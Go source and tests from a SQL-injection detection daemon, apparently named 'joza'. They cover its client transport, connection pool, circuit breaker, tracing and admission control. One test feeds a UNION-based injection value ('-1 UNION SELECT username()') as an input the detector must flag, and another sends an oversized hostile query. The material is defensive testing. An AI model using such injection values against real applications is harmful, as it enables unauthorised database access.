	if _, err := h.Check(benignQuery, nil); err == nil {
		t.Error("want transport error")
	}
}

func TestServerConcurrentClients(t *testing.T) {
	addr := startTCPServer(t, newAnalyzer())
	var wg sync.WaitGroup
	errs := make(chan error, 8)
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, err := Dial(addr)
			if err != nil {
				errs <- err
				return
			}
			defer c.Close()
			for i := 0; i < 50; i++ {
				reply, err := c.Analyze(attackQuery)
				if err != nil {
					errs <- err
					return
				}
				if !reply.Attack {
					errs <- err
					return
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	if err := <-errs; err != nil {
		t.Fatal(err)
	}
}

func TestServerCloseIdempotent(t *testing.T) {
	srv := NewServer(newAnalyzer())
	if err := srv.Close(); err != nil {
		t.Fatal(err)
	}
	if err := srv.Close(); err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	if err := srv.Serve(ln); err == nil {
		t.Error("Serve after Close should fail")
	}
}

func TestDialError(t *testing.T) {
	if _, err := Dial("127.0.0.1:1"); err == nil {
		t.Error("Dial to closed port should fail")
	}
}

func TestDaemonCachesSpeedSecondRequest(t *testing.T) {
	analyzer := newAnalyzer()
	d := NewDirect(analyzer)
	if _, err := d.Analyze(benignQuery); err != nil {
		t.Fatal(err)
	}
	if _, err := d.Analyze(benignQuery); err != nil {
		t.Fatal(err)
	}
	if analyzer.Stats().QueryHits == 0 {
		t.Error("query cache not consulted through daemon")
	}
}
