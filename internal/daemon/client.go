package daemon

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"sync"
	"time"

	"joza/internal/pti"
	"joza/internal/sqltoken"
)

// ErrBroken marks a client whose connection failed mid-exchange. After
// any encode or decode error the JSON stream may be desynced — a stale or
// partial response could still be in flight — so the connection is closed
// and every later call fails with this error rather than risk returning
// another request's reply. A Pool replaces broken connections; a bare
// Client stays broken until discarded.
var ErrBroken = errors.New("daemon: connection broken")

// Client is the Remote transport over a single connection: it speaks the
// daemon protocol and serializes concurrent requests. Production
// deployments wrap connections in a Pool instead; a bare Client is the
// paper's one-pipe mode.
type Client struct {
	mu      sync.Mutex
	conn    net.Conn
	enc     *json.Encoder
	dec     *json.Decoder
	timeout time.Duration
	dialect sqltoken.Dialect
	err     error // sticky; set on the first I/O failure or Close
}

var _ Transport = (*Client)(nil)

// Dial connects to a daemon at a TCP address.
func Dial(addr string) (*Client, error) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("daemon dial: %w", err)
	}
	return NewClient(conn), nil
}

// NewClient wraps an established connection (e.g. one side of net.Pipe,
// the analogue of the paper's anonymous pipes).
func NewClient(conn net.Conn) *Client {
	return &Client{
		conn: conn,
		enc:  json.NewEncoder(conn),
		dec:  json.NewDecoder(bufio.NewReader(conn)),
	}
}

// SetTimeout bounds each request round trip (send to receive). A request
// that misses its deadline breaks the connection: the reply may still
// arrive later, and a desynced stream must never be read again. Zero (the
// default) disables the deadline.
func (c *Client) SetTimeout(d time.Duration) {
	c.mu.Lock()
	c.timeout = d
	c.mu.Unlock()
}

// SetDialect stamps the given SQL dialect on every analyze and batch frame
// this client sends, so a daemon serving a different dialect refuses the
// request instead of mis-lexing it. MySQL (the default) is omitted from
// the wire, keeping frames byte-identical to the pre-dialect protocol.
func (c *Client) SetDialect(d sqltoken.Dialect) {
	c.mu.Lock()
	c.dialect = d
	c.mu.Unlock()
}

// wireDialect returns the wire spelling of the client's configured dialect.
func (c *Client) wireDialect() string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return wireDialect(c.dialect)
}

// Broken reports whether the connection has failed and the client is
// permanently unusable.
func (c *Client) Broken() bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.err != nil
}

// roundTrip sends one request and reads its response, marking the
// connection broken on any I/O error. ctx bounds the exchange: its
// deadline (when earlier than the client timeout) becomes the connection
// deadline, and cancellation slams the connection so a blocked read or
// write returns immediately. An already-done ctx fails before any I/O and
// leaves the connection healthy.
func (c *Client) roundTrip(ctx context.Context, req wireRequest) (wireResponse, error) {
	if err := ctx.Err(); err != nil {
		// No bytes were written: the stream is still in sync, so the
		// connection survives an expired context untouched.
		return wireResponse{}, err
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.err != nil {
		return wireResponse{}, c.err
	}
	var deadline time.Time
	if c.timeout > 0 {
		deadline = time.Now().Add(c.timeout)
	}
	if d, ok := ctx.Deadline(); ok && (deadline.IsZero() || d.Before(deadline)) {
		deadline = d
	}
	if !deadline.IsZero() {
		_ = c.conn.SetDeadline(deadline)
	}
	if ctx.Done() != nil {
		// Cancellation mid-exchange moves the deadline into the past,
		// failing the in-flight read or write right away.
		slammed := make(chan struct{})
		stop := context.AfterFunc(ctx, func() {
			defer close(slammed)
			_ = c.conn.SetDeadline(time.Unix(1, 0))
		})
		defer func() {
			if !stop() {
				// The context fired between the successful exchange and
				// this stop: the AfterFunc has started and may be slamming
				// the deadline right now. Wait it out, then clear — without
				// this, a timeout-less client would keep the poisoned
				// deadline and spuriously break a healthy connection on its
				// next request.
				<-slammed
			}
			_ = c.conn.SetDeadline(time.Time{})
		}()
	} else if !deadline.IsZero() {
		defer func() { _ = c.conn.SetDeadline(time.Time{}) }()
	}
	if err := c.enc.Encode(req); err != nil {
		return wireResponse{}, c.broke("send", ctxCause(ctx, err))
	}
	var resp wireResponse
	if err := c.dec.Decode(&resp); err != nil {
		return wireResponse{}, c.broke("recv", ctxCause(ctx, err))
	}
	if resp.Err != "" {
		return wireResponse{}, fmt.Errorf("daemon: %s", resp.Err)
	}
	return resp, nil
}

// ctxCause substitutes ctx's error for an I/O error caused by context
// cancellation or expiry, so callers can match context.Canceled and
// context.DeadlineExceeded through the transport's error wrapping.
func ctxCause(ctx context.Context, err error) error {
	if cerr := ctx.Err(); cerr != nil {
		return cerr
	}
	// The connection deadline and the context's timer race: when both are
	// set to the same instant, the read can fail with an i/o timeout a
	// moment before ctx.Err() flips. If the context's deadline has passed,
	// the timeout is the context's.
	var nerr net.Error
	if errors.As(err, &nerr) && nerr.Timeout() {
		if d, ok := ctx.Deadline(); ok && !time.Now().Before(d) {
			return context.DeadlineExceeded
		}
	}
	return err
}

// withTimeoutBudget stamps the remaining ctx deadline budget onto an
// analyze request so the server bounds its own work identically.
func withTimeoutBudget(ctx context.Context, req wireRequest) wireRequest {
	if d, ok := ctx.Deadline(); ok {
		ms := time.Until(d).Milliseconds()
		if ms < 1 {
			// Sub-millisecond (or spent) budget: the pre-flight ctx check
			// fails the call; -1 keeps a stamped request unambiguous for
			// the server if it is ever sent.
			ms = -1
		}
		req.TimeoutMs = ms
	}
	return req
}

// broke records the sticky failure, closes the connection, and returns
// the error for the call that hit it. Must be called with mu held.
func (c *Client) broke(stage string, cause error) error {
	c.err = fmt.Errorf("%w (%s: %v)", ErrBroken, stage, cause)
	_ = c.conn.Close()
	return fmt.Errorf("daemon %s: %w", stage, cause)
}

// Analyze implements Transport.
func (c *Client) Analyze(query string) (*AnalysisReply, error) {
	return c.AnalyzeContext(context.Background(), query)
}

// AnalyzeContext implements Transport: the round trip observes ctx, and
// the remaining deadline budget rides in the request so the server
// abandons work the client will no longer wait for.
func (c *Client) AnalyzeContext(ctx context.Context, query string) (*AnalysisReply, error) {
	resp, err := c.roundTrip(ctx, withTimeoutBudget(ctx, wireRequest{Query: query, Dialect: c.wireDialect()}))
	if err != nil {
		return nil, err
	}
	if resp.Reply == nil {
		return nil, errors.New("daemon: analyze verb returned no payload")
	}
	return resp.Reply, nil
}

// AnalyzeSiteContext implements siteTransport: AnalyzeContext with the
// call-site identity riding in the request so the server runs the
// query-skeleton profile stage. Old servers ignore the field and reply
// without a profile verdict.
func (c *Client) AnalyzeSiteContext(ctx context.Context, site, query string) (*AnalysisReply, error) {
	resp, err := c.roundTrip(ctx, withTimeoutBudget(ctx, wireRequest{Query: query, Site: site, Dialect: c.wireDialect()}))
	if err != nil {
		return nil, err
	}
	if resp.Reply == nil {
		return nil, errors.New("daemon: analyze verb returned no payload")
	}
	return resp.Reply, nil
}

// Prepare drives phase one of the two-phase rollout: the daemon loads,
// builds and self-tests its next snapshot generation without swapping it
// in, and reports the staged version.
func (c *Client) Prepare(ctx context.Context) (*RolloutReply, error) {
	resp, err := c.roundTrip(ctx, wireRequest{Op: "prepare"})
	if err != nil {
		return nil, err
	}
	if resp.Rollout == nil {
		return nil, errors.New("daemon: prepare verb returned no payload")
	}
	return resp.Rollout, nil
}

// Commit drives phase two: the daemon swaps its staged snapshot in as the
// serving one. A non-empty version pins which staged snapshot may swap;
// mismatches are refused with the staged state kept.
func (c *Client) Commit(ctx context.Context, version string) (*RolloutReply, error) {
	resp, err := c.roundTrip(ctx, wireRequest{Op: "commit", Version: version})
	if err != nil {
		return nil, err
	}
	if resp.Rollout == nil {
		return nil, errors.New("daemon: commit verb returned no payload")
	}
	return resp.Rollout, nil
}

// Abort discards the daemon's staged snapshot, if any. Idempotent.
func (c *Client) Abort(ctx context.Context) (*RolloutReply, error) {
	resp, err := c.roundTrip(ctx, wireRequest{Op: "abort"})
	if err != nil {
		return nil, err
	}
	if resp.Rollout == nil {
		return nil, errors.New("daemon: abort verb returned no payload")
	}
	return resp.Rollout, nil
}

// Stats requests the daemon's counter snapshot via the "stats" verb.
func (c *Client) Stats() (*StatsReply, error) {
	resp, err := c.roundTrip(context.Background(), wireRequest{Op: "stats"})
	if err != nil {
		return nil, err
	}
	if resp.Stats == nil {
		return nil, errors.New("daemon: stats verb returned no payload")
	}
	return resp.Stats, nil
}

// Traces requests the daemon's trace rings via the "traces" verb.
func (c *Client) Traces() (*TracesReply, error) {
	resp, err := c.roundTrip(context.Background(), wireRequest{Op: "traces"})
	if err != nil {
		return nil, err
	}
	if resp.Traces == nil {
		return nil, errors.New("daemon: traces verb returned no payload")
	}
	return resp.Traces, nil
}

// Close implements Transport. The client is unusable afterwards.
func (c *Client) Close() error {
	c.mu.Lock()
	if c.err == nil {
		c.err = net.ErrClosed
	}
	c.mu.Unlock()
	return c.conn.Close()
}

// SpawnPipe starts a daemon over an in-memory pipe — the analogue of
// launching the daemon on demand and talking over anonymous pipes. The
// returned stop function shuts the daemon goroutine down.
func SpawnPipe(analyzer *pti.Cached) (client *Client, stop func()) {
	clientSide, serverSide := net.Pipe()
	srv := NewServer(analyzer)
	done := make(chan struct{})
	go func() {
		defer close(done)
		srv.ServeConn(serverSide)
	}()
	c := NewClient(clientSide)
	return c, func() {
		_ = c.Close()
		_ = serverSide.Close()
		<-done
	}
}
