package daemon

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"sync"
	"time"

	"joza/internal/pti"
)

// ErrBroken marks a client whose connection failed mid-exchange. After
// any encode or decode error the JSON stream may be desynced — a stale or
// partial response could still be in flight — so the connection is closed
// and every later call fails with this error rather than risk returning
// another request's reply. A Pool replaces broken connections; a bare
// Client stays broken until discarded.
var ErrBroken = errors.New("daemon: connection broken")

// Client is the Remote transport over a single connection: it speaks the
// daemon protocol and serializes concurrent requests. Production
// deployments wrap connections in a Pool instead; a bare Client is the
// paper's one-pipe mode.
type Client struct {
	mu      sync.Mutex
	conn    net.Conn
	enc     *json.Encoder
	dec     *json.Decoder
	timeout time.Duration
	err     error // sticky; set on the first I/O failure or Close
}

var _ Transport = (*Client)(nil)

// Dial connects to a daemon at a TCP address.
func Dial(addr string) (*Client, error) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("daemon dial: %w", err)
	}
	return NewClient(conn), nil
}

// NewClient wraps an established connection (e.g. one side of net.Pipe,
// the analogue of the paper's anonymous pipes).
func NewClient(conn net.Conn) *Client {
	return &Client{
		conn: conn,
		enc:  json.NewEncoder(conn),
		dec:  json.NewDecoder(bufio.NewReader(conn)),
	}
}

// SetTimeout bounds each request round trip (send to receive). A request
// that misses its deadline breaks the connection: the reply may still
// arrive later, and a desynced stream must never be read again. Zero (the
// default) disables the deadline.
func (c *Client) SetTimeout(d time.Duration) {
	c.mu.Lock()
	c.timeout = d
	c.mu.Unlock()
}

// Broken reports whether the connection has failed and the client is
// permanently unusable.
func (c *Client) Broken() bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.err != nil
}

// roundTrip sends one request and reads its response, marking the
// connection broken on any I/O error.
func (c *Client) roundTrip(req wireRequest) (wireResponse, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.err != nil {
		return wireResponse{}, c.err
	}
	if c.timeout > 0 {
		_ = c.conn.SetDeadline(time.Now().Add(c.timeout))
	}
	if err := c.enc.Encode(req); err != nil {
		return wireResponse{}, c.broke("send", err)
	}
	var resp wireResponse
	if err := c.dec.Decode(&resp); err != nil {
		return wireResponse{}, c.broke("recv", err)
	}
	if c.timeout > 0 {
		_ = c.conn.SetDeadline(time.Time{})
	}
	if resp.Err != "" {
		return wireResponse{}, fmt.Errorf("daemon: %s", resp.Err)
	}
	return resp, nil
}

// broke records the sticky failure, closes the connection, and returns
// the error for the call that hit it. Must be called with mu held.
func (c *Client) broke(stage string, cause error) error {
	c.err = fmt.Errorf("%w (%s: %v)", ErrBroken, stage, cause)
	_ = c.conn.Close()
	return fmt.Errorf("daemon %s: %w", stage, cause)
}

// Analyze implements Transport.
func (c *Client) Analyze(query string) (*AnalysisReply, error) {
	resp, err := c.roundTrip(wireRequest{Query: query})
	if err != nil {
		return nil, err
	}
	if resp.Reply == nil {
		return nil, errors.New("daemon: analyze verb returned no payload")
	}
	return resp.Reply, nil
}

// Stats requests the daemon's counter snapshot via the "stats" verb.
func (c *Client) Stats() (*StatsReply, error) {
	resp, err := c.roundTrip(wireRequest{Op: "stats"})
	if err != nil {
		return nil, err
	}
	if resp.Stats == nil {
		return nil, errors.New("daemon: stats verb returned no payload")
	}
	return resp.Stats, nil
}

// Traces requests the daemon's trace rings via the "traces" verb.
func (c *Client) Traces() (*TracesReply, error) {
	resp, err := c.roundTrip(wireRequest{Op: "traces"})
	if err != nil {
		return nil, err
	}
	if resp.Traces == nil {
		return nil, errors.New("daemon: traces verb returned no payload")
	}
	return resp.Traces, nil
}

// Close implements Transport. The client is unusable afterwards.
func (c *Client) Close() error {
	c.mu.Lock()
	if c.err == nil {
		c.err = net.ErrClosed
	}
	c.mu.Unlock()
	return c.conn.Close()
}

// SpawnPipe starts a daemon over an in-memory pipe — the analogue of
// launching the daemon on demand and talking over anonymous pipes. The
// returned stop function shuts the daemon goroutine down.
func SpawnPipe(analyzer *pti.Cached) (client *Client, stop func()) {
	clientSide, serverSide := net.Pipe()
	srv := NewServer(analyzer)
	done := make(chan struct{})
	go func() {
		defer close(done)
		srv.ServeConn(serverSide)
	}()
	c := NewClient(clientSide)
	return c, func() {
		_ = c.Close()
		_ = serverSide.Close()
		<-done
	}
}
