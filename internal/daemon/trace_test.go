package daemon

import (
	"net"
	"strings"
	"testing"

	"joza/internal/nti"
	"joza/internal/trace"
)

// startTracedTCPServer is startTCPServer with a sample-everything tracer.
func startTracedTCPServer(t *testing.T) (addr string, srv *Server) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	tracer := trace.New(trace.Config{SampleEvery: 1, RingSize: 16})
	srv = NewServer(newAnalyzer(), WithTracer(tracer))
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	return ln.Addr().String(), srv
}

func TestTracesVerb(t *testing.T) {
	addr, _ := startTracedTCPServer(t)
	c, err := Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := c.Analyze(benignQuery); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Analyze(attackQuery); err != nil {
		t.Fatal(err)
	}
	d, err := c.Traces()
	if err != nil {
		t.Fatal(err)
	}
	if d.Started != 2 || len(d.Recent) != 2 {
		t.Fatalf("traces = started %d, %d recent; want 2/2", d.Started, len(d.Recent))
	}
	if len(d.Notable) != 1 || !d.Notable[0].Attack {
		t.Fatalf("notable = %+v, want the attack", d.Notable)
	}
	if d.Notable[0].Query != attackQuery {
		t.Fatalf("notable query = %q", d.Notable[0].Query)
	}
	if len(d.Notable[0].UncoveredTokens) == 0 {
		t.Fatal("attack trace crossed the wire without uncovered-token evidence")
	}
}

func TestTracesVerbWithoutTracer(t *testing.T) {
	addr := startTCPServer(t, newAnalyzer())
	c, err := Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	d, err := c.Traces()
	if err != nil {
		t.Fatal(err)
	}
	if len(d.Recent) != 0 || len(d.Notable) != 0 {
		t.Fatal("untraced daemon must serve an empty dump")
	}
}

func TestAnalyzeReplyCarriesTrace(t *testing.T) {
	addr, _ := startTracedTCPServer(t)
	c, err := Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	reply, err := c.Analyze(benignQuery)
	if err != nil {
		t.Fatal(err)
	}
	if reply.Trace == nil {
		t.Fatal("sample-everything daemon attached no trace to the reply")
	}
	if reply.Trace.LexNs <= 0 || reply.Trace.CacheOutcome != trace.CacheMiss {
		t.Fatalf("daemon trace = %+v", reply.Trace)
	}

	// Repeat: the daemon's query cache hits, and the trace says so.
	reply, err = c.Analyze(benignQuery)
	if err != nil {
		t.Fatal(err)
	}
	if reply.Trace.CacheOutcome != trace.CacheQueryHit {
		t.Fatalf("repeat outcome %q, want query-hit", reply.Trace.CacheOutcome)
	}
}

func TestUntracedServerOmitsReplyTrace(t *testing.T) {
	addr := startTCPServer(t, newAnalyzer())
	c, err := Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	reply, err := c.Analyze(benignQuery)
	if err != nil {
		t.Fatal(err)
	}
	if reply.Trace != nil {
		t.Fatal("untraced daemon attached a trace")
	}
}

// TestHybridClientMergesDaemonTrace runs the full remote deployment with
// tracing on both sides and checks that one client span carries NTI
// timing from this process and lex/cache/cover evidence from the daemon.
func TestHybridClientMergesDaemonTrace(t *testing.T) {
	addr, _ := startTracedTCPServer(t)
	c, err := Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	h := NewHybridClient(c, nti.MustNew(), 0,
		WithTracing(trace.Config{SampleEvery: 1, RingSize: 8}))
	defer h.Close()

	inputs := []nti.Input{{Source: "get", Name: "id", Value: "-1 UNION SELECT username()"}}
	v, err := h.Check(attackQuery, inputs)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Attack {
		t.Fatal("attack not flagged")
	}
	d := h.Traces()
	if len(d.Notable) != 1 {
		t.Fatalf("notable = %d, want 1", len(d.Notable))
	}
	sp := d.Notable[0]
	if sp.LexNs <= 0 || sp.PTICoverNs <= 0 {
		t.Fatalf("daemon-side stage timings not merged: %+v", sp)
	}
	if sp.CacheOutcome != trace.CacheMiss {
		t.Fatalf("cache outcome %q not merged", sp.CacheOutcome)
	}
	if len(sp.UncoveredTokens) == 0 {
		t.Fatal("daemon cover evidence not merged")
	}
	if len(sp.Inputs) == 0 || !sp.Inputs[0].Matched || sp.NTIMatchNs <= 0 {
		t.Fatalf("client-side NTI evidence missing: %+v", sp.Inputs)
	}
	if !sp.NTIAttack || !sp.PTIAttack {
		t.Fatalf("verdict attribution = NTI %v PTI %v", sp.NTIAttack, sp.PTIAttack)
	}
	// Traced checks feed the client's stage histograms.
	if len(h.Metrics().Stages) == 0 {
		t.Fatal("traced check did not populate stage histograms")
	}
}

// TestHybridClientTraceDegraded checks that an outage under fail-open is
// visible in the trace and lands in the notable ring.
func TestHybridClientTraceDegraded(t *testing.T) {
	clientSide, serverSide := net.Pipe()
	_ = serverSide.Close()
	_ = clientSide.Close()
	h := NewHybridClient(NewClient(clientSide), nti.MustNew(), 0,
		WithDegradeMode(DegradeFailOpen),
		WithTracing(trace.Config{SampleEvery: 1, RingSize: 8}))
	v, err := h.Check(benignQuery, nil)
	if err != nil {
		t.Fatal(err)
	}
	if v.Attack {
		t.Fatal("fail-open must not flag")
	}
	d := h.Traces()
	if len(d.Notable) != 1 || !d.Notable[0].Degraded {
		t.Fatalf("degraded check not notable: %+v", d.Notable)
	}
}

func TestStatsCountTracesOps(t *testing.T) {
	addr, srv := startTracedTCPServer(t)
	c, err := Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := c.Traces(); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Traces(); err != nil {
		t.Fatal(err)
	}
	st := srv.Stats()
	if st.DaemonTracesOps != 2 {
		t.Fatalf("DaemonTracesOps = %d, want 2", st.DaemonTracesOps)
	}
	if !strings.Contains(st.Format(), "2 traces") {
		t.Fatalf("Format omits traces ops:\n%s", st.Format())
	}
}
