package daemon

import (
	"context"
	"errors"
	"net"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"joza/internal/engine"
	"joza/internal/fragments"
	"joza/internal/nti"
	"joza/internal/pti"
)

// waitForGoroutines retries until the goroutine count drops back to the
// baseline (the runtime needs a moment to reap exited goroutines).
func waitForGoroutines(t *testing.T, before int) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for {
		if runtime.NumGoroutine() <= before {
			return
		}
		if time.Now().After(deadline) {
			buf := make([]byte, 1<<20)
			n := runtime.Stack(buf, true)
			t.Fatalf("goroutines leaked: %d -> %d\n%s", before, runtime.NumGoroutine(), buf[:n])
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func TestServerAdmissionSheds(t *testing.T) {
	srv := NewServer(newAnalyzer(), WithAdmission(1, 10*time.Millisecond))
	// Occupy the only slot so the next analyze request must shed.
	if err := srv.gate.Acquire(context.Background()); err != nil {
		t.Fatalf("priming acquire: %v", err)
	}
	clientSide, serverSide := net.Pipe()
	done := make(chan struct{})
	go func() {
		defer close(done)
		srv.ServeConn(serverSide)
	}()
	c := NewClient(clientSide)
	c.SetTimeout(5 * time.Second)
	_, err := c.Analyze(benignQuery)
	if err == nil || !strings.Contains(err.Error(), "overloaded") {
		t.Fatalf("err = %v, want overloaded", err)
	}
	if c.Broken() {
		t.Fatal("shed reply broke the connection — it must ride the healthy stream")
	}
	if got := srv.Stats().ShedRequests; got != 1 {
		t.Fatalf("ShedRequests = %d, want 1", got)
	}
	// Releasing the slot restores service on the same connection.
	srv.gate.Release()
	reply, err := c.Analyze(benignQuery)
	if err != nil || reply.Attack {
		t.Fatalf("after release: reply=%+v err=%v", reply, err)
	}
	_ = c.Close()
	<-done
}

// TestServerRefusesHostileOversizedQuery proves a 4 MB query cannot buy
// 4 MB worth of analysis: the budgeted analyzer rejects it up front, the
// reply arrives well inside the client deadline on a healthy stream, and
// the event is counted as over-budget, not as a timeout.
func TestServerRefusesHostileOversizedQuery(t *testing.T) {
	set := fragments.NewSet([]string{"SELECT * FROM records WHERE ID=", " LIMIT 5"})
	budgeted := pti.NewCached(pti.New(set, pti.WithMaxQueryBytes(1<<20)), pti.CacheQueryAndStructure, 128)
	srv := NewServer(budgeted, WithMaxRequestBytes(16<<20))
	clientSide, serverSide := net.Pipe()
	done := make(chan struct{})
	go func() {
		defer close(done)
		srv.ServeConn(serverSide)
	}()
	c := NewClient(clientSide)
	defer func() {
		_ = c.Close()
		<-done
	}()
	hostile := benignQuery + " -- " + strings.Repeat("A", 4<<20)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	start := time.Now()
	_, err := c.AnalyzeContext(ctx, hostile)
	if err == nil || !strings.Contains(err.Error(), "budget") {
		t.Fatalf("err = %v, want an over-budget refusal", err)
	}
	if elapsed := time.Since(start); elapsed > 3*time.Second {
		t.Fatalf("refusal took %s — the budget must reject before the work, not after", elapsed)
	}
	if c.Broken() {
		t.Fatal("over-budget reply broke the connection — it must ride the healthy stream")
	}
	st := srv.Stats()
	if st.OverBudgetChecks != 1 || st.DaemonTimeouts != 0 {
		t.Fatalf("counters = overBudget %d, timeouts %d; want 1 and 0", st.OverBudgetChecks, st.DaemonTimeouts)
	}
	// The same connection still serves real traffic.
	reply, err := c.Analyze(benignQuery)
	if err != nil || reply.Attack {
		t.Fatalf("after refusal: reply=%+v err=%v", reply, err)
	}
}

func TestServerAdmissionShedHonorsRequestBudget(t *testing.T) {
	// The wait for a slot is clamped to the request's propagated deadline
	// budget: a request with 1ms left is shed immediately, not after the
	// configured maxWait.
	srv := NewServer(newAnalyzer(), WithAdmission(1, 10*time.Second))
	if err := srv.gate.Acquire(context.Background()); err != nil {
		t.Fatal(err)
	}
	defer srv.gate.Release()
	clientSide, serverSide := net.Pipe()
	done := make(chan struct{})
	go func() {
		defer close(done)
		srv.ServeConn(serverSide)
	}()
	c := NewClient(clientSide)
	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
	defer cancel()
	start := time.Now()
	_, err := c.AnalyzeContext(ctx, benignQuery)
	if err == nil {
		t.Fatal("expected an error with the slot held")
	}
	if wait := time.Since(start); wait > 3*time.Second {
		t.Fatalf("shed took %v — the 10s maxWait was not clamped to the request budget", wait)
	}
	_ = c.Close()
	<-done
}

func TestServerShutdownDrains(t *testing.T) {
	before := runtime.NumGoroutine()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := NewServer(newAnalyzer(), WithReadTimeout(time.Minute))
	serveDone := make(chan error, 1)
	go func() { serveDone <- srv.Serve(ln) }()
	c, err := Dial(ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.Analyze(benignQuery); err != nil {
		t.Fatal(err)
	}
	// The connection now sits idle in the server's read loop; Shutdown
	// must fail that read rather than wait out the minute-long read
	// timeout.
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	if err := srv.Shutdown(ctx); err != nil {
		t.Fatalf("Shutdown: %v", err)
	}
	if err := <-serveDone; !errors.Is(err, net.ErrClosed) {
		t.Fatalf("Serve returned %v, want net.ErrClosed", err)
	}
	if _, err := c.Analyze(benignQuery); err == nil {
		t.Fatal("drained server still answered")
	}
	// Shutdown after Shutdown (and Close after Shutdown) are no-ops.
	if err := srv.Shutdown(context.Background()); err != nil {
		t.Fatal(err)
	}
	if err := srv.Close(); err != nil {
		t.Fatal(err)
	}
	_ = c.Close()
	waitForGoroutines(t, before)
}

func TestServerShutdownWaitsForInFlight(t *testing.T) {
	// A request waiting on admission when Shutdown begins still gets its
	// answer (shed, here) before its connection handler exits.
	srv := NewServer(newAnalyzer(), WithAdmission(1, 300*time.Millisecond))
	if err := srv.gate.Acquire(context.Background()); err != nil {
		t.Fatal(err)
	}
	clientSide, serverSide := net.Pipe()
	handlerDone := make(chan struct{})
	go func() {
		defer close(handlerDone)
		if !srv.track(serverSide) {
			return
		}
		defer srv.wg.Done()
		srv.ServeConn(serverSide)
	}()
	c := NewClient(clientSide)
	replied := make(chan error, 1)
	go func() {
		_, err := c.Analyze(benignQuery)
		replied <- err
	}()
	time.Sleep(50 * time.Millisecond) // let the request reach the gate
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	if err := srv.Shutdown(ctx); err != nil {
		t.Fatalf("Shutdown: %v", err)
	}
	err := <-replied
	if err == nil || !strings.Contains(err.Error(), "overloaded") {
		t.Fatalf("in-flight request got %v, want an overloaded reply", err)
	}
	<-handlerDone
	_ = c.Close()
}

// flakyDialer dials a real address while up, and fails while down.
type flakyDialer struct {
	addr string
	down atomic.Bool
}

func (d *flakyDialer) dial() (net.Conn, error) {
	if d.down.Load() {
		return nil, errors.New("injected dial failure")
	}
	return net.DialTimeout("tcp", d.addr, time.Second)
}

func TestPoolBreakerTripsAndRecovers(t *testing.T) {
	addr := startTCPServer(t, newAnalyzer())
	d := &flakyDialer{addr: addr}
	d.down.Store(true)
	p := NewPool(d.dial, PoolConfig{
		Size:             1,
		MaxAttempts:      1,
		BackoffMin:       time.Millisecond,
		Timeout:          time.Second,
		BreakerThreshold: 2,
		BreakerCooldown:  200 * time.Millisecond,
	})
	defer p.Close()
	for i := 0; i < 2; i++ {
		if _, err := p.Analyze(benignQuery); !errors.Is(err, ErrUnavailable) {
			t.Fatalf("request %d: err = %v, want ErrUnavailable", i, err)
		}
	}
	if st := p.BreakerStats(); st.State != "open" || st.Trips != 1 {
		t.Fatalf("after threshold failures: %+v, want open with 1 trip", st)
	}
	// While open, requests short-circuit: no new dial attempts.
	dials := p.Dials()
	if _, err := p.Analyze(benignQuery); !errors.Is(err, ErrUnavailable) {
		t.Fatalf("open-breaker err = %v, want ErrUnavailable", err)
	}
	if p.Dials() != dials {
		t.Fatal("open breaker still dialed the daemon")
	}
	if st := p.BreakerStats(); st.Rejects == 0 {
		t.Fatalf("stats = %+v, want rejects counted", st)
	}
	// Heal the daemon; after the cooldown one probe goes through and
	// closes the breaker.
	d.down.Store(false)
	time.Sleep(250 * time.Millisecond)
	reply, err := p.Analyze(benignQuery)
	if err != nil || reply.Attack {
		t.Fatalf("probe: reply=%+v err=%v", reply, err)
	}
	st := p.BreakerStats()
	if st.State != "closed" || st.Probes != 1 {
		t.Fatalf("after successful probe: %+v, want closed with 1 probe", st)
	}
}

func TestPoolBreakerHalfOpenProbeLeaksNothing(t *testing.T) {
	addr := startTCPServer(t, newAnalyzer())
	before := runtime.NumGoroutine()
	d := &flakyDialer{addr: addr}
	d.down.Store(true)
	p := NewPool(d.dial, PoolConfig{
		Size:             2,
		MaxAttempts:      1,
		BackoffMin:       time.Millisecond,
		Timeout:          time.Second,
		BreakerThreshold: 1,
		BreakerCooldown:  10 * time.Millisecond,
	})
	for i := 0; i < 5; i++ {
		_, _ = p.Analyze(benignQuery)
		time.Sleep(15 * time.Millisecond) // let the breaker probe each round
	}
